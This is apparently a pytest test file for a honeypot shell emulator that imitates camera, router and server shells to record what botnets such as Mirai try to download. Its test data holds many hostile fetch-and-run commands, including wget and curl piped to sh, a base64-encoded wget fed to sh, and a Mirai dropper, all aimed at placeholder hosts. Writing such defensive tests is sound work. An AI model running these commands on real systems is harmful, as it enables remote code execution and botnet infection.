# SPDX-License-Identifier: Apache-2.0
"""A session: what is shown, what was done, what is followed."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mead.shell import (
    Decoded,
    Executed,
    FileWritten,
    Limit,
    Offer,
    Ran,
    Reply,
    Shell,
    ShellLimits,
    default_personas,
)

CAPTURES = Path(__file__).parents[1] / "captures" / "shell"
LINES = [json.loads(line) for line in (CAPTURES / "download-lines.jsonl").read_text().splitlines()]
PERSONAS = default_personas(b"test")


def start(name: str = "camera-armv7l", **options: object) -> Shell:
    from datetime import UTC, datetime

    chosen = next(persona for persona in PERSONAS if persona.name == name)
    return Shell(chosen, now=lambda: datetime(2026, 5, 4, 3, 2, 1, tzinfo=UTC), **options)  # type: ignore[arg-type]


def urls(*replies: Reply) -> list[str]:
    return [effect.url for reply in replies for effect in reply.effects if isinstance(effect, Offer)]


def only(reply: Reply, kind: type) -> list:
    return [effect for effect in reply.effects if isinstance(effect, kind)]


# What was seen in the wild


@pytest.mark.parametrize("case", LINES, ids=[str(number) for number in range(len(LINES))])
@pytest.mark.parametrize("persona", ["camera-armv7l", "router-mips", "server-x86_64"])
def test_a_line_that_was_seen_offers_what_it_names(case: dict, persona: str) -> None:
    found = urls(start(persona).run(case["cmd"].encode()))
    assert set(case["expect_required"]) <= set(found) <= {*case["expect_required"], *case["expect_optional"]}


def transcript(name: str) -> list[str]:
    blocks = (CAPTURES / name).read_text().split("```")[1::2]
    return [
        line
        for block in blocks
        if ":" not in block.strip().split("\n")[0]
        for line in block.strip().split("\n")
    ]


@pytest.mark.parametrize("persona", [persona.name for persona in PERSONAS])
@pytest.mark.parametrize("name", ["hontel-mirai.md", "hontel-wopbot.md", "hontel-brickerbot.md"])
def test_a_botnet_comes_to_its_last_line(name: str, persona: str) -> None:
    lines = transcript(name)
    assert len(lines) >= 10
    shell = start(persona)
    for line in lines:
        if shell.closed:
            assert "brickerbot" in name
            shell = start(persona)
        reply = shell.run(line.encode())
        word = line.rpartition("/bin/busybox ")[2]
        if word.isupper() and "2>&1" not in line and "&&" not in line:
            assert reply.output.endswith(f"{word}: applet not found\n".encode())


def test_mirai_is_shown_what_it_looks_for() -> None:
    shell = start()
    assert b"rw,relatime" in shell.run(b"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI").output
    probe = b"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon"
    assert shell.run(probe).output == b"kami/dev\n"
    shell.run(b"cd /dev/; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper")
    reply = shell.run(
        b"/bin/busybox wget http://192.0.2.1:80/bins/mirai.x86 -O - > dvrHelper; ./dvrHelper telnet.x86"
    )
    assert urls(reply) == ["http://192.0.2.1:80/bins/mirai.x86"]
    assert only(reply, Executed) == [
        Executed("/dev/dvrHelper", "./dvrHelper telnet.x86", None, "http://192.0.2.1:80/bins/mirai.x86")
    ]


BANNER = (
    b"\n\nBusyBox v1.20.2 (2016-07-22 16:33:01 CST) built-in shell (ash)\n"
    b"Enter 'help' for a list of built-in commands.\n\n"
)


def test_the_dialogue_of_a_telnet_bot() -> None:
    shell = start()
    for line, output in (
        (b"enable", b"-sh: enable: not found\n"),
        (b"system", b"-sh: system: not found\n"),
        (b"shell", b"-sh: shell: not found\n"),
        (b"linuxshell", b"-sh: linuxshell: not found\n"),
        (b"/bin/busybox MIRAI", b"MIRAI: applet not found\n"),
        (b"rm missing", b"rm: can't remove 'missing': No such file or directory\n"),
        (b">/proc/x", b"-sh: can't create /proc/x: nonexistent directory\n"),
        (b">/sys/x", b"-sh: can't create /sys/x: Operation not permitted\n"),
        (b">/usr/x", b"-sh: can't create /usr/x: Read-only file system\n"),
        (b">/tmp/.d && cd /tmp && pwd", b"/tmp\n"),
        (b"ls -a /tmp", b".   ..  .d\n"),
        (b"nosuch", b"-sh: nosuch: not found\n"),
        (b"sh", BANNER),
        (b"nosuch", b"sh: nosuch: not found\n"),
        (b"/bin/busybox sh", BANNER),
        (b"/ip cloud print", b"sh: /ip: not found\n"),
    ):
        assert shell.run(line).output == output


# Bodies that come through the shell


BODY = bytes(range(256)) * 2


@pytest.mark.parametrize("persona", ["camera-armv7l", "server-x86_64"])
def test_a_body_in_pieces_of_echo_arrives_whole(persona: str) -> None:
    shell = start(persona)
    shell.run(b"cd /tmp; >.x")
    for at in range(0, len(BODY), 64):
        piece = "".join(f"\\x{byte:02x}" for byte in BODY[at : at + 64])
        reply = shell.run(f"echo -ne '{piece}' >> .x; /bin/busybox ECCHI".encode())
    assert only(reply, FileWritten)[-1].data == BODY
    reply = shell.run(b"chmod 777 .x; ./.x; rm .x")
    assert only(reply, Executed)[0].data == BODY


def test_a_large_body_is_told_once_it_is_used() -> None:
    shell = start()
    shell.run(b"head -c 200000 /dev/zero > /tmp/big")
    assert not only(shell.run(b"echo more >> /tmp/big"), FileWritten)
    (written,) = only(shell.run(b"chmod +x /tmp/big"), FileWritten)
    assert written.data == bytes(200_000) + b"more\n"
    shell.run(b"echo again >> /tmp/big")
    assert len(only(shell.close(), FileWritten)) == 1


@pytest.mark.parametrize(
    "line",
    [
        r"printf '\177ELF\1\2' > /tmp/b",
        r"printf '\x7fELF\x01\x02' > /tmp/b",
        r"echo -en '\x7f\x45\x4c\x46\x01\x02' > /tmp/b",
        r"echo -ne '\0177ELF\001\002' > /tmp/b",
        "echo f0VMRgEC | base64 -d > /tmp/b",
        "echo 7f454c460102 | xxd -r -p > /tmp/b",
        "base64 -d > /tmp/b <<E\nf0VM\nRgEC\nE",
        r"echo -ne '\x7fELF' > /tmp/b; echo -ne '\x01\x02' >> /tmp/b",
        r"printf '\177ELF\1\2' | dd of=/tmp/b 2>/dev/null",
        r"printf '\177ELF\1\2' | tee /tmp/b > /dev/null",
        "uudecode -o /tmp/b <<E\nbegin-base64 644 x\nf0VMRgEC\n====\nE",
    ],
)
def test_every_way_to_type_a_body_gives_its_bytes(line: str) -> None:
    reply = start().run(line.encode())
    assert only(reply, FileWritten)[-1].data == b"\x7fELF\x01\x02"


def test_a_layer_of_encoding_is_told() -> None:
    reply = start().run(b"echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d | sh")
    assert only(reply, Decoded) == [Decoded("base64", b"wget http://192.0.2.1/a")]
    assert urls(reply) == ["http://192.0.2.1/a"]


def test_standard_input_becomes_a_file() -> None:
    shell = start(interactive=False)
    assert shell.run(b"mkdir -p /tmp/d; cat > /tmp/d/f; chmod +x /tmp/d/f; /tmp/d/f").output == b""
    assert shell.reading
    shell.feed(BODY[:100])
    shell.feed(BODY[100:])
    assert shell.reading
    reply = shell.feed_eof()
    assert not shell.reading
    assert only(reply, FileWritten) == [FileWritten("/tmp/d/f", BODY, "cat")]
    assert only(reply, Executed) == [Executed("/tmp/d/f", "/tmp/d/f", BODY, None)]


def test_what_ran_before_the_reading_command_ran_once() -> None:
    shell = start(interactive=False)
    shell.run(b"echo a >> /tmp/n; cat > /tmp/f && cat /tmp/n")
    shell.feed(b"x")
    assert shell.feed_eof().output == b"a\n"


@pytest.mark.parametrize(
    ("command", "typed", "output"),
    [
        ("read x; echo got $x", b"word\nnext", b"got word\n"),
        ("dd bs=1 count=4 of=/tmp/f 2>/dev/null; cat /tmp/f", b"abcdef", b"abcd"),
        ("head -c 3", b"abcdef", b"abc"),
        ("head -n 1", b"one\ntwo\n", b"one\n"),
    ],
)
def test_a_command_goes_on_when_it_has_enough(command: str, typed: bytes, output: bytes) -> None:
    shell = start(interactive=False)
    shell.run(command.encode())
    assert shell.feed(typed).output == output
    assert not shell.reading


def test_lines_typed_ahead_are_commands() -> None:
    shell = start()
    shell.run(b"read x")
    assert shell.feed(b"word\necho $x\n").output == b"word\n"


def test_an_interrupt_gives_up_what_runs() -> None:
    shell = start()
    shell.run(b"cat > /tmp/f")
    assert shell.interrupt().output == b""
    assert not shell.reading
    shell.run(b'echo "unfinished')
    shell.interrupt()
    assert shell.run(b"echo ok").output == b"ok\n"


def test_a_script_on_standard_input_is_run() -> None:
    shell = start(interactive=False)
    shell.run(b"sh")
    shell.feed(b"wget http://192.0.2.1/a\n")
    assert urls(shell.feed_eof()) == ["http://192.0.2.1/a"]


# Following


SCRIPT = b"""#!/bin/sh
for a in arm7 mips x86; do
  cd /tmp; wget http://192.0.2.1/bins/x.$a -O x; chmod 777 x; ./x scan
done
"""


@pytest.mark.parametrize(
    "line",
    [
        "wget http://192.0.2.1/a.sh; sh a.sh",
        "wget http://192.0.2.1/a.sh && chmod +x a.sh && ./a.sh",
        "wget http://192.0.2.1/a.sh -O- | sh",
        "wget -qO - http://192.0.2.1/a.sh|bash -s x",
        "curl -s http://192.0.2.1/a.sh | sh",
        "curl http://192.0.2.1/a.sh -o b; cp b c; mv c d; sh d",
        "cd /tmp; wget http://192.0.2.1/a.sh; cat a.sh | sh",
        "wget -P /var http://192.0.2.1/a.sh; . /var/a.sh",
        'sh -c "$(curl -fsSL http://192.0.2.1/a.sh)"',
        'eval "`wget -q -O- http://192.0.2.1/a.sh`"; true',
        "bash <(curl -s http://192.0.2.1/a.sh)",
        "wget http://192.0.2.1/a.sh -O x; busybox sh x",
        "f() { wget http://192.0.2.1/a.sh; sh a.sh; }; f",
        "(wget http://192.0.2.1/a.sh; sh a.sh) > /dev/null 2>&1 &",
        "nohup sh -c 'wget http://192.0.2.1/a.sh; sh a.sh' &",
        "wget http://192.0.2.1/a.sh; source ./a.sh",
    ],
)
def test_a_script_that_was_fetched_is_followed(line: str) -> None:
    shell = start("server-x86_64" if "bash" in line else "camera-armv7l")
    assert urls(shell.run(line.encode())) == ["http://192.0.2.1/a.sh"]
    reply = shell.deliver("http://192.0.2.1/a.sh", SCRIPT)
    assert urls(reply) == [f"http://192.0.2.1/bins/x.{name}" for name in ("arm7", "mips", "x86")]
    assert {effect.depth for effect in only(reply, Offer)} == {1}
    assert {effect.url for effect in only(reply, Executed) if effect.data is None} == set(urls(reply))


@pytest.mark.parametrize(
    ("line", "output"),
    [
        ("bash <(curl -s http://192.0.2.1/a.sh)", b'-sh: syntax error: unexpected "("\n'),
        ("curl -s http://192.0.2.1/a.sh | bash -s x", b"-sh: bash: not found\n"),
        ("bash -c 'wget http://192.0.2.1/a.sh; bash a.sh'", b"-sh: bash: not found\n"),
        ("wget -q http://192.0.2.1/a.sh; bash a.sh", b"-sh: bash: not found\n"),
        ("a=(http://192.0.2.1/a.sh); wget -O- ${a[0]} | sh", b'-sh: syntax error: unexpected "("\n'),
        (
            "curl -s http://192.0.2.1/a.sh -o- | python3 - <<< x",
            b"-sh: syntax error: unexpected redirection\n",
        ),
    ],
)
def test_what_a_device_refuses_is_offered_all_the_same(line: str, output: bytes) -> None:
    shell = start()
    reply = shell.run(line.encode())
    assert (reply.output, urls(reply)) == (output, ["http://192.0.2.1/a.sh"])
    assert not shell.machine.fs.exists("/root/a.sh") or "wget -q" in line
    followed = urls(shell.deliver("http://192.0.2.1/a.sh", SCRIPT))
    assert len(followed) == (0 if "python" in line else 3)


def test_a_body_that_is_known_is_there_at_once() -> None:
    shell = start()
    shell.run(b"wget http://192.0.2.1/a -O /tmp/a")
    shell.deliver("http://192.0.2.1/a", b"hello\n")
    assert shell.run(b"cat /tmp/a; wc -c < /tmp/a").output == b"hello\n6\n"
    assert shell.run(b"wget -q http://192.0.2.1/a -O - | cat").output == b"hello\n"


def test_a_program_for_another_processor_does_not_start() -> None:
    shell = start("router-mips")
    shell.run(b"wget -q http://192.0.2.1/a -O /tmp/a; wget -q http://192.0.2.1/m -O /tmp/m; chmod 777 /tmp/?")
    head = shell.run(b"head -c 52 /bin/busybox").output
    shell.deliver("http://192.0.2.1/a", b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x28\x00" + bytes(32))
    shell.deliver("http://192.0.2.1/m", head)
    assert b"/tmp/a: line 1: " in shell.run(b"/tmp/a").output
    assert shell.run(b"/tmp/m").output == b""


@pytest.mark.parametrize(
    ("line", "second"),
    [
        ("wget http://192.0.2.1/a || tftp -g -r a 192.0.2.2", "tftp://192.0.2.2/a"),
        ("if wget http://192.0.2.1/a; then sh a; else curl -O http://192.0.2.3/a; fi", "http://192.0.2.3/a"),
        ("(wget http://192.0.2.1/a || curl -O http://192.0.2.3/a) && sh a", "http://192.0.2.3/a"),
    ],
)
def test_what_a_failed_download_would_lead_to_is_tried(line: str, second: str) -> None:
    shell = start()
    assert urls(shell.run(line.encode())) == ["http://192.0.2.1/a"]
    assert urls(shell.deliver("http://192.0.2.1/a", None)) == [second]


def test_scripts_that_fetch_each_other_end() -> None:
    shell = start()
    waiting = urls(shell.run(b"wget -O- http://192.0.2.1/0 | sh"))
    seen = 0
    limits: list[str] = []
    while waiting:
        seen += 1
        url = waiting.pop()
        reply = shell.deliver(url, f"wget -O- http://192.0.2.1/{seen} | sh".encode())
        waiting += urls(reply)
        limits += [effect.name for effect in only(reply, Limit)]
    assert seen == ShellLimits().follow_depth + 1
    assert limits == ["follow_depth"]


def test_a_script_that_names_thousands_of_places_is_cut() -> None:
    shell = start()
    shell.run(b"wget -O- http://192.0.2.1/0 | sh")
    body = b"".join(b"wget http://192.0.2.1/%d\n" % number for number in range(2_000))
    reply = shell.deliver("http://192.0.2.1/0", body)
    assert len(urls(reply)) == ShellLimits().offers - 1
    assert only(reply, Limit)[0].name == "offers"


# Faces


def test_prompts_are_those_of_the_device() -> None:
    assert start("server-x86_64").prompt == b"root@srv01:~# "
    assert start("server-x86_64", username="admin").prompt == b"admin@srv01:~$ "
    assert start("router-mipsel").prompt == b"root@OpenWrt:~# "
    shell = start("camera-armv7l")
    shell.run(b"cd /tmp")
    assert shell.prompt == b"/tmp # "
    shell.run(b"for i in 1 2; do")
    assert shell.prompt == b"> "
    shell.run(b"echo $i")
    assert shell.run(b"done").output == b"1\n2\n"


def test_exit_leaves_one_shell_after_the_other() -> None:
    shell = start()
    shell.run(b"sh")
    assert not shell.run(b"exit").closed
    assert shell.run(b"exit 3").closed
    assert shell.closed


def test_commands_are_told_with_their_words_and_status() -> None:
    reply = start().run(b"x='a b'; echo $x; false")
    assert only(reply, Ran) == [Ran(("echo", "a", "b"), 0, 0), Ran(("false",), 1, 0)]


def test_a_chain_goes_on_at_the_read_that_waited(shell: Shell) -> None:
    shell.run(b"read a && echo $a && read a && echo $a")
    assert shell.run(b"one").output == b"one\n"
    assert shell.run(b"two").output == b"two\n"
    assert not shell.reading
